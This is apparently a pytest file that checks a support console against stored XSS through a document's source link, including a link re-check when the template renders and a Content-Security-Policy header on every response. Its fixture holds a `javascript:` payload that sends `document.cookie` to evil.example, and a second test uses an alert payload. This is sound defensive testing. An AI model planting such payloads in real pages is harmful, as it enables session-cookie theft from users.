"""Stored XSS through a source link, against the real console app (issue 15, item 3): a document
whose front matter says ``url: javascript:…`` is shown without a link, and every console
response carries a Content-Security-Policy that forbids inline script and ``javascript:`` URLs."""

from __future__ import annotations

from pathlib import Path

from adapters.console.app import CONTENT_SECURITY_POLICY
from adapters.console.deps import templates
from assistant.knowledge.ingestion import Ingestor
from assistant.models import Answer, Decision, ItemKind, SourceRef
from tests.adapters.console.conftest import Console

DOC = """---
title: Reset your SSO session
url: javascript:fetch('https://evil.example/?c='+document.cookie)
---

# Reset your SSO session

To reset a stuck SSO session, open Profile, choose Security and press Reset SSO session.
"""
QUESTION = "How do I reset a stuck SSO session?"


async def test_a_script_link_in_front_matter_is_never_clickable(console: Console, tmp_path: Path) -> None:
    path = tmp_path / "sso.md"
    path.write_text(DOC, encoding="utf-8")
    await Ingestor(console.assistant).ingest_paths([path])
    client = await console.client()
    try:
        asked = await client.post("/console/sandbox/ask", data={"account": "acme", "text": QUESTION})
        page = await asked.text()
    finally:
        await client.close()
    assert asked.status == 200 and "Reset your SSO session" in page  # the source is cited...
    assert "javascript:" not in page.lower()  # ...without its link


def test_the_template_checks_the_link_again_when_it_renders() -> None:
    source = SourceRef(item_id="kn_1", title="Reset your SSO session", url=None, kind=ItemKind.PASSAGE)
    object.__setattr__(source, "url", "javascript:alert(document.cookie)")  # past the model's check
    answer = Answer(
        id="ans_1",
        question_id="q_1",
        text="Open Profile.",
        decision=Decision.ANSWER,
        confidence=0.9,
        resolution_key=None,
        item_ids=["kn_1"],
        sources=[source],
    )
    html = templates().get_template("_answer.html").render(answer=answer)
    assert "Reset your SSO session" in html and "javascript:" not in html and "<a " not in html


async def test_every_console_response_carries_the_policy(console: Console) -> None:
    client = await console.client(token=None)
    signed_in = await console.client()
    try:
        responses = [
            await client.get("/console/login"),
            await client.get("/console/sandbox", allow_redirects=False),  # 303 to sign in
            await client.post("/console/sandbox/ask", data={"text": "x"}, headers={"Origin": "null"}),  # 403
            await client.get("/console/static/console.css"),
            await signed_in.get("/console/sandbox"),
            await signed_in.get("/console/charts"),
            await signed_in.get("/console/no-such-page"),
        ]
        statuses = [response.status for response in responses]
        policies = [response.headers.get("Content-Security-Policy") for response in responses]
    finally:
        await client.close()
        await signed_in.close()
    assert statuses[:3] == [200, 303, 403] and 404 in statuses
    assert policies == [CONTENT_SECURITY_POLICY] * len(responses)
    assert (
        "script-src 'self'" in CONTENT_SECURITY_POLICY
        and "'unsafe-inline'" not in CONTENT_SECURITY_POLICY.split("script-src", 1)[1].split(";", 1)[0]
    )
